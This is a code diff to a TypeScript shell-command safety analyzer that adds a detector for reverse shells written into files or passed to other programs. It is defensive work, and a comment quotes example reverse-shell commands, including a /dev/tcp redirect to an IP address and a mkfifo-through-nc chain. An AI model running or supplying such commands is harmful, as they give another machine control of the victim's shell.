@@ -175,6 +175,9 @@ function judgeUnknown(prog: string, args: Word[], st: State, workspaceScript: bo
     danger(st, unknownProgramReason(prog));
 }
 
+/** A reverse shell's text: an interactive shell joined to a socket, a fifo piped through nc, or nc told to run a shell. */
+const REVERSE_SHELL_TEXT =
+  /\b(ba)?sh\s+-i\b[^'"]*?(>&|0<&|\|\s*(nc|ncat|netcat)\s)|\/dev\/(tcp|udp)\/[^/\s]+\/\d+\s+0>&1|\bmkfifo\b[^'"]*\|\s*(nc|ncat|netcat)\s|\b(nc|ncat|netcat)\b[^|;'"]*\s-e\s*\/bin\/(ba)?sh\b/;
 const DISGUISED_AS_DATA = /\.(jpe?g|png|gif|bmp|ico|webp|pdf|docx?|xlsx?|pptx?|mp[34]|wav)$/i;
 
 const ATTACK_WORDLIST = /(^|[/=])(rockyou[\w.-]*|usr\/share\/(wordlists|seclists)\/\S*|seclists\/\S+)$/i;
@@ -1250,6 +1253,16 @@ function analyzeCommand(cmd: SimpleCommand, st: State, prev: SimpleCommand[], lo
   // a chat channel's or a service's, outside, with whatever the command sends.
   const webhook = args.find((a) => /^--?webhook([-_]?url)?(=|$)/i.test(a.text));
   if (webhook) danger(st, `posts to a webhook, a chat channel's or another service's (${prog} ${webhook.text.replace(/=.*/, '')})`);
+  // A reverse shell's text written into a file that runs (`echo "sh -i >& /dev/tcp/10.14.13.184/80 0>&1" >>
+  // backup.sh`, a composer.json's script) or handed to another program (`exploit.py … -c "rm /tmp/f;mkfifo
+  // /tmp/f;…|nc …"`) is planted or sent to run; printed, encoded or kept in notes, it is text. A shell's own
+  // `-c` text is judged as a command of its own.
+  const shellText = args.find((a) => REVERSE_SHELL_TEXT.test(a.text));
+  const writesFile = cmd.redirects.some(
+    (r) => /^>>?$|^>\|$/.test(r.op) && r.target.text !== '/dev/null' && !/\.(txt|md|log|csv|rst|html?)$/i.test(r.target.text),
+  );
+  if (shellText && !SHELLS.has(prog) && prog !== 'eval' && (!/^(echo|printf)$/.test(prog) || writesFile))
+    danger(st, `writes or hands over a reverse shell, which gives another machine this one's shell (${prog})`);
   // The attacker's listener (`-l <lhost> -p <lport>`, `$LHOST`, `--lport 9001`) is where an exploit's
   // shell connects back or a stolen file is sent: only an attack is given one.
   const listener = args.find((a) => /^(\$\{?)?(LHOST|LPORT)\}?$|^--?l(host|port)(=|$)/i.test(a.text));
